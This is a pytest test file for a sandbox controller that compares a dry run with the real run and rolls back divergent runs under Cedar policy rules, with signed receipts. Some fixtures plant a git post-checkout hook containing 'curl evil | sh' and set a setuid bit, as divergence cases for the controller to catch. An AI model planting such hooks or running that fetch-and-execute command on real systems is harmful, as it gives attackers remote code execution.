"""The dry run binds the real run, through the whole service (fake runtime): code that
behaves differently in the real run is not committed, an approval does not change that,
and nondeterminism at the paths the dry run wrote keeps committing."""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization
from securesystemslib.dsse import Envelope
from securesystemslib.signer import Key, SSlibKey

from controller.adapters.policy.shadow import ShadowedEngine
from controller.adapters.runtime.fake import FakeRuntime, Outcome
from controller.adapters.signing import KeyRing
from controller.adapters.store.submissions import Store
from controller.core.models import Phase, State
from controller.core.ports import RunSpec
from controller.errors import StoreError
from controller.service.controller import Controller
from controller.verify.chain import verify_log
from controller.verify.dsse import load_public_keys
from tests.conftest import bundle_with, make_controller, parking_rule, python

Behaviour = Callable[[RunSpec], Outcome]


def controller_with(tmp_path: Path, behaviour: Behaviour, *,
                    policy_dir: Path | None = None) -> Controller[Store, ShadowedEngine]:
    return make_controller(tmp_path, FakeRuntime(behaviour=behaviour), policy_dir=policy_dir)


def predicate(controller: Controller[Store, ShadowedEngine], tmp_path: Path,
              submission_id: str) -> dict[str, Any]:
    lines = [envelope for _, envelope in controller.store.receipts()]
    ring = KeyRing(tmp_path / "keys").public_keys()
    report = verify_log(lines, load_public_keys("".join(key.pem for key in ring).encode()))
    assert report.ok, report.problems
    envelope = controller.store.receipt_for(submission_id)
    assert envelope is not None
    # A third-party DSSE verifier accepts it as well (the radius and divergence are signed).
    keys: list[Key] = [SSlibKey(keyid=key.key_id, keytype="ed25519", scheme="ed25519", keyval={
        "public": serialization.load_pem_public_key(key.pem.encode()).public_bytes(
            serialization.Encoding.Raw, serialization.PublicFormat.Raw).hex()})
        for key in ring]
    Envelope.from_dict(json.loads(envelope)).verify(keys, 1)
    found: dict[str, Any] = json.loads(base64.b64decode(json.loads(envelope)["payload"]))[
        "predicate"]
    return found


def switched(real: Callable[[Path], None]) -> Behaviour:
    """A program that writes report.txt in both runs and, in the real one only, more."""
    def behaviour(spec: RunSpec) -> Outcome:
        (spec.workspace_dir / "report.txt").write_text("report")
        if spec.phase is Phase.BOUNDED:
            real(spec.workspace_dir)
        return Outcome()
    return behaviour


def hook(work: Path) -> None:
    (work / ".hooks").mkdir()
    (work / ".hooks" / "post-checkout").write_text("curl evil | sh")


def chmod(work: Path) -> None:
    os.chmod(work / "report.txt", 0o755)


def link(work: Path) -> None:
    (work / "report.txt").unlink()
    (work / "report.txt").symlink_to("elsewhere")


@pytest.mark.parametrize(("real", "counted"), [
    (hook, {"created_outside": 2}), (chmod, {"mode_changed": 1}), (link, {"kind_changed": 1})])
def test_a_real_run_that_does_more_is_rolled_back_with_the_rule_and_paths(
        tmp_path: Path, real: Callable[[Path], None], counted: dict[str, int]) -> None:
    controller = controller_with(tmp_path, switched(real))
    result = controller.submit(python("switch"))
    assert result.state is State.ROLLED_BACK, result.reason
    assert "commit.deny-divergence" in result.reason
    assert result.divergence is not None and result.divergence.diverged
    for name, count in counted.items():
        assert getattr(result.divergence, name) == count
    found = predicate(controller, tmp_path, result.id)
    assert found["divergence"]["diverged"] is True
    assert found["divergence"]["sample"] == list(result.divergence.sample)
    assert result.radius is not None and found["radius"]["sha256"] == result.radius.digest
    assert "commit.deny-divergence" in [rule["id"] for decision in found["decisions"]
                                        for rule in decision["rules"]]


def test_a_real_run_that_deletes_what_the_dry_run_left_is_rolled_back(tmp_path: Path) -> None:
    controller = controller_with(tmp_path, lambda spec: Outcome())
    seeded = controller.submit(python("seed", files=[{"path": f"f{n}", "content": "x"}
                                                     for n in range(5)]))
    assert seeded.state is State.COMMITTED, seeded.reason

    def deletes(spec: RunSpec) -> Outcome:
        if spec.phase is Phase.BOUNDED:
            for n in range(5):
                (spec.workspace_dir / f"f{n}").unlink()
        return Outcome()

    assert isinstance(controller.runtime, FakeRuntime)
    controller.runtime.behaviour = deletes
    result = controller.submit(python("delete"))
    assert result.state is State.ROLLED_BACK and result.divergence is not None
    assert result.divergence.deleted_outside == 5
    assert controller.store.workspace_version("default") == 1


def test_an_approved_submission_that_diverges_does_not_commit(tmp_path: Path) -> None:
    controller = controller_with(tmp_path, switched(hook), policy_dir=bundle_with(
        tmp_path, "parks", parking_rule(0)))
    parked = controller.submit(python("switch"))
    assert parked.state is State.AWAITING_APPROVAL and parked.radius is not None
    running = controller.approve(parked.id, "carol", True, "looks fine")
    assert running.approval is not None
    assert running.approval.radius_sha256 == parked.radius.digest
    result = controller.process(running)
    assert result.state is State.ROLLED_BACK, result.reason
    assert "commit.deny-divergence" in result.reason
    assert predicate(controller, tmp_path, result.id)["approval"]["radius_sha256"] == (
        parked.radius.digest)


def test_timestamps_and_random_sizes_at_the_same_paths_keep_committing(
        tmp_path: Path) -> None:
    def nondeterministic(spec: RunSpec) -> Outcome:
        (spec.workspace_dir / "stamp.txt").write_text(os.urandom(8).hex())
        size = int.from_bytes(os.urandom(2), "big")
        (spec.workspace_dir / "random.bin").write_bytes(os.urandom(size))
        return Outcome(stdout=os.urandom(size % 512))

    controller = controller_with(tmp_path, nondeterministic)
    for _ in range(5):
        result = controller.submit(python("nondeterministic"))
        assert result.state is State.COMMITTED, result.reason
        assert result.divergence is not None and not result.divergence.diverged
    assert controller.store.workspace_version("default") == 5


def test_policy_explain_shows_the_radius_the_approval_and_the_divergence(
        tmp_path: Path) -> None:
    controller = controller_with(tmp_path, switched(hook), policy_dir=bundle_with(
        tmp_path, "parks", parking_rule(0)))
    parked = controller.submit(python("switch"))
    result = controller.process(controller.approve(parked.id, "carol", True, "fine"))
    assert result.radius is not None and result.divergence is not None
    tool = str(Path(sys.executable).parent / "sandgate")
    shown = subprocess.run([tool, "policy", "explain", result.id], capture_output=True,
                           text=True, check=False,
                           env={**os.environ, "SANDGATE_DATA_DIR": str(tmp_path)})
    assert shown.returncode == 0, shown.stderr
    assert f"(radius {result.radius.digest})" in shown.stdout
    assert f"radius {result.radius.digest}: 1 created" in shown.stdout
    assert "divergence: created_outside 2" in shown.stdout
    assert ".hooks\n" in shown.stdout and ".hooks/post-checkout" in shown.stdout
    assert "commit.deny-divergence" in shown.stdout


RELAXED = '''
@id("commit.deny-divergence")
@reason("the real run went beyond its dry run, other than new files under out/")
forbid (principal, action == Action::"commit", resource)
when {
  context.divergence.outside_paths > 0 ||
  context.divergence.totals_over > 0 ||
  context.divergence.exit_changed ||
  context.divergence.network_new
}
unless {
  ["out"].containsAll(context.divergence.outside_roots) &&
  context.divergence.outside_paths == context.divergence.created_outside &&
  context.divergence.created_outside_links == 0 &&
  context.divergence.totals_over == 0 && !context.divergence.exit_changed &&
  !context.divergence.network_new
};
'''


def relaxing_bundle(tmp_path: Path) -> Path:
    """The default bundle, its divergence rule relaxed for new paths under ``out/``."""
    root = bundle_with(tmp_path, "relaxed", "")
    commit = root / "policies" / "commit.cedar"
    commit.write_text(commit.read_text().split('@id("commit.deny-divergence")')[0] + RELAXED)
    return root


def extra(*paths: str) -> Callable[[Path], None]:
    def real(work: Path) -> None:
        for path in paths:
            (work / path).parent.mkdir(parents=True, exist_ok=True)
            (work / path).write_text("more")
    return real


@pytest.mark.parametrize(("paths", "state"), [
    (("out/extra.txt",), State.COMMITTED), (("out/a/b.txt", "out/c.txt"), State.COMMITTED),
    (("out/extra.txt", ".hooks/post-checkout"), State.ROLLED_BACK),
    (("outside.txt",), State.ROLLED_BACK)])
def test_a_bundle_can_relax_divergence_for_new_files_under_a_directory(
        tmp_path: Path, paths: tuple[str, ...], state: State) -> None:
    controller = controller_with(tmp_path, switched(extra(*paths)),
                                 policy_dir=relaxing_bundle(tmp_path))
    result = controller.submit(python("switch"))
    assert result.state is state, result.reason
    assert result.divergence is not None and result.divergence.diverged


def test_past_fifty_top_level_names_the_roots_say_too_many(tmp_path: Path) -> None:
    controller = controller_with(tmp_path, switched(extra(
        "out/x.txt", *(f"d{n}/f" for n in range(60)))), policy_dir=relaxing_bundle(tmp_path))
    result = controller.submit(python("switch"))
    assert result.state is State.ROLLED_BACK and result.divergence is not None
    assert len(result.divergence.roots) == 51 and "*" in result.divergence.roots


def test_a_relaxed_directory_is_no_way_around_it_as_a_link(tmp_path: Path) -> None:
    def behaviour(spec: RunSpec) -> Outcome:
        (spec.workspace_dir / "report.txt").write_text("report")
        if spec.phase is Phase.BOUNDED:
            (spec.workspace_dir / "out").symlink_to("report.txt")
        return Outcome()

    controller = controller_with(tmp_path, behaviour, policy_dir=relaxing_bundle(tmp_path))
    result = controller.submit(python("switch"))
    assert result.state is State.ROLLED_BACK, result.reason
    assert result.divergence is not None and result.divergence.created_outside_links == 1


def test_a_link_to_another_place_at_the_same_path_diverges(tmp_path: Path) -> None:
    def behaviour(spec: RunSpec) -> Outcome:
        target = "config.evil" if spec.phase is Phase.BOUNDED else "config.safe"
        (spec.workspace_dir / "config").symlink_to(target)
        return Outcome()

    result = controller_with(tmp_path, behaviour).submit(python("retarget"))
    assert result.state is State.ROLLED_BACK and result.divergence is not None
    assert result.divergence.kind_changed == 1 and result.divergence.sample == ("config",)


def test_bytes_written_are_bound_whatever_the_workspace_holds(tmp_path: Path) -> None:
    def behaviour(spec: RunSpec) -> Outcome:
        size = 3 << 20 if spec.phase is Phase.BOUNDED else 1
        (spec.workspace_dir / "log.txt").write_bytes(b"x" * size)
        return Outcome()

    result = controller_with(tmp_path, behaviour).submit(python("grow"))
    assert result.state is State.ROLLED_BACK and result.divergence is not None
    assert "bytes_written" in result.divergence.totals_over


def test_a_failure_weighing_divergence_never_downgrades_a_quarantine(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def plants(spec: RunSpec) -> Outcome:
        (spec.workspace_dir / "tool").write_text("x")
        if spec.phase is Phase.BOUNDED:
            os.chmod(spec.workspace_dir / "tool", 0o4755)
        return Outcome()

    controller = controller_with(tmp_path, plants)

    def lost(*args: object, **kwargs: object) -> list[tuple[int, dict[str, object]]]:
        raise StoreError("the dry run's changes cannot be read")

    monkeypatch.setattr(controller.store, "changes", lost)
    result = controller.submit(python("plant"))
    assert result.state is State.QUARANTINED, result.reason


WEIGHS_MORE = """
@id("commit.deny-hook-content")
@reason("the real run wrote other content under .hooks than its dry run did")
forbid (principal, action == Action::"commit", resource)
when {
  context.divergence.content_roots.contains(".hooks") ||
  context.divergence.content_roots.contains("*")
};

@id("commit.deny-incomplete")
@reason("the real run did not make every change its dry run made")
forbid (principal, action == Action::"commit", resource)
when { context.divergence.dry_only > 0 };
"""


def test_content_at_the_dry_run_s_paths_commits_unless_a_bundle_weighs_it(
        tmp_path: Path) -> None:
    """A harmless hook in the dry run, another in the real one: the shipped bundle commits
    it (content is not bound), a bundle that weighs ``content_roots`` does not."""
    def hooks(spec: RunSpec) -> Outcome:
        (spec.workspace_dir / ".hooks").mkdir()
        (spec.workspace_dir / ".hooks" / "post-checkout").write_text(
            "curl evil | sh" if spec.phase is Phase.BOUNDED else "echo hello")
        return Outcome()

    shipped = controller_with(tmp_path / "shipped", hooks)
    committed = shipped.submit(python("hooks"))
    assert committed.state is State.COMMITTED, committed.reason
    assert committed.divergence is not None and not committed.divergence.diverged
    assert committed.divergence.content_changed == 1
    assert committed.divergence.content_roots == (".hooks",)
    tool = str(Path(sys.executable).parent / "sandgate")
    shown = subprocess.run([tool, "policy", "explain", committed.id], capture_output=True,
                           text=True, check=False,
                           env={**os.environ, "SANDGATE_DATA_DIR": str(tmp_path / "shipped")})
    assert shown.returncode == 0, shown.stderr
    assert "within the radius: 1 paths with other content (under .hooks)" in shown.stdout
    weighing = controller_with(tmp_path / "weighing", hooks, policy_dir=bundle_with(
        tmp_path, "weighs", WEIGHS_MORE))
    refused = weighing.submit(python("hooks"))
    assert refused.state is State.ROLLED_BACK, refused.reason
    assert "commit.deny-hook-content" in refused.reason


def test_a_real_run_that_does_less_commits_unless_a_bundle_asks_for_all_of_it(
        tmp_path: Path) -> None:
    def half(spec: RunSpec) -> Outcome:
        (spec.workspace_dir / "a.txt").write_text("a")
        if spec.phase is Phase.DRY_RUN:
            (spec.workspace_dir / "b.txt").write_text("b")
        return Outcome()

    shipped = controller_with(tmp_path / "shipped", half)
    committed = shipped.submit(python("half"))
    assert committed.state is State.COMMITTED, committed.reason
    assert committed.divergence is not None and committed.divergence.dry_only == 1
    weighing = controller_with(tmp_path / "weighing", half, policy_dir=bundle_with(
        tmp_path, "weighs", WEIGHS_MORE))
    refused = weighing.submit(python("half"))
    assert refused.state is State.ROLLED_BACK, refused.reason
    assert "commit.deny-incomplete" in refused.reason


def test_fifty_names_before_it_do_not_hide_a_rewritten_hook(tmp_path: Path) -> None:
    """``!`` sorts before ``.``: a real run that rewrites 50 names first and then the hook
    sees ``*`` stand for it, which the weighing bundle refuses too."""
    def hooks(spec: RunSpec) -> Outcome:
        work = spec.workspace_dir
        for n in range(50):
            (work / f"!{n:02}").write_text(os.urandom(4).hex())
        (work / ".hooks").mkdir()
        (work / ".hooks" / "post-checkout").write_text(
            "curl evil | sh" if spec.phase is Phase.BOUNDED else "echo hello")
        return Outcome()

    weighing = controller_with(tmp_path, hooks, policy_dir=bundle_with(
        tmp_path, "weighs", WEIGHS_MORE))
    refused = weighing.submit(python("hooks"))
    assert refused.state is State.ROLLED_BACK, refused.reason
    assert refused.divergence is not None and "*" in refused.divergence.content_roots
    assert ".hooks" not in refused.divergence.content_roots
